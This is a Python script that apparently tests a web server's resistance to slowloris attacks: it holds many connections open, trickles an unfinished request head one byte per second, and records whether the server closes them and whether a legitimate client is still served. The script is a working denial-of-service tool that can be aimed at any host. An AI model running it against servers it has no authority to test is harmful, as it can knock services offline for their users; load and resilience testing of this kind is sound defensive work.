#!/usr/bin/env python3
"""slow_clients.py: many clients that trickle a request head (slowloris).

    slow_clients.py HOST PORT --clients N --seconds S [--batch B]

Opens N connections to HOST:PORT in batches of B (each batch connected
before the next starts), sends "GET / HTTP/1.1\\r\\n" on each, then one more
byte of a header line every second, never ending the head. Watches for the
server to close each connection (EOF or reset) and for S seconds in all.
Meanwhile, once a second, a legitimate client fetches "/" on a fresh
connection and checks for "200 OK".

Prints one JSON object: connections made, closed by the server, their
lifetimes (connect to close: min, max), connections still open at the end,
legitimate fetches served and failed, and connect failures.
"""

import argparse
import json
import resource
import selectors
import socket
import sys
import time


def legit(host, port):
    try:
        s = socket.create_connection((host, port), timeout=5)
        s.settimeout(5)
        s.sendall(b"GET / HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
        got = b""
        while True:
            b = s.recv(65536)
            if not b:
                break
            got += b
        s.close()
        return got.startswith(b"HTTP/1.1 200 OK")
    except OSError:
        return False


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("host")
    ap.add_argument("port", type=int)
    ap.add_argument("--clients", type=int, required=True)
    ap.add_argument("--seconds", type=float, required=True)
    ap.add_argument("--batch", type=int, default=200)
    a = ap.parse_args()

    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    want = a.clients + 100
    if soft < want:
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(want, hard), hard))

    sel = selectors.DefaultSelector()
    opened = {}  # socket -> connect time
    lifetimes = []
    connect_failures = 0
    served = failed = 0
    start = time.monotonic()
    end = start + a.seconds
    next_legit = start + 1
    next_trickle = start + 1

    def watch(timeout):
        for key, _ in sel.select(timeout):
            s = key.fileobj
            try:
                data = s.recv(4096)
            except BlockingIOError:
                continue
            except OSError:
                data = b""
            if not data:
                lifetimes.append(time.monotonic() - opened.pop(s))
                sel.unregister(s)
                s.close()

    made = 0
    while made < a.clients and time.monotonic() < end:
        batch = []
        for _ in range(min(a.batch, a.clients - made)):
            s = socket.socket()
            s.setblocking(False)
            s.connect_ex((a.host, a.port))
            batch.append(s)
        made += len(batch)
        wsel = selectors.DefaultSelector()
        for s in batch:
            wsel.register(s, selectors.EVENT_WRITE)
        pending = set(batch)
        deadline = time.monotonic() + 10
        while pending and time.monotonic() < deadline:
            for key, _ in wsel.select(0.5):
                s = key.fileobj
                pending.discard(s)
                wsel.unregister(s)
                if s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) != 0:
                    connect_failures += 1
                    s.close()
                    continue
                opened[s] = time.monotonic()
                try:
                    s.send(b"GET / HTTP/1.1\r\n")
                except OSError:
                    pass
                sel.register(s, selectors.EVENT_READ)
            watch(0)
        for s in pending:
            connect_failures += 1
            wsel.unregister(s)
            s.close()
        wsel.close()

    while time.monotonic() < end and (opened or served + failed < 3):
        now = time.monotonic()
        if now >= next_trickle:
            next_trickle += 1
            for s in list(opened):
                try:
                    s.send(b"X")
                except OSError:
                    pass
        if now >= next_legit:
            next_legit += 1
            if legit(a.host, a.port):
                served += 1
            else:
                failed += 1
        watch(0.05)

    out = {
        "made": made,
        "connect_failures": connect_failures,
        "closed_by_server": len(lifetimes),
        "still_open": len(opened),
        "lifetime_min": round(min(lifetimes), 2) if lifetimes else None,
        "lifetime_max": round(max(lifetimes), 2) if lifetimes else None,
        "legit_served": served,
        "legit_failed": failed,
        "seconds": round(time.monotonic() - start, 1),
    }
    for s in list(opened):
        s.close()
    print(json.dumps(out), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
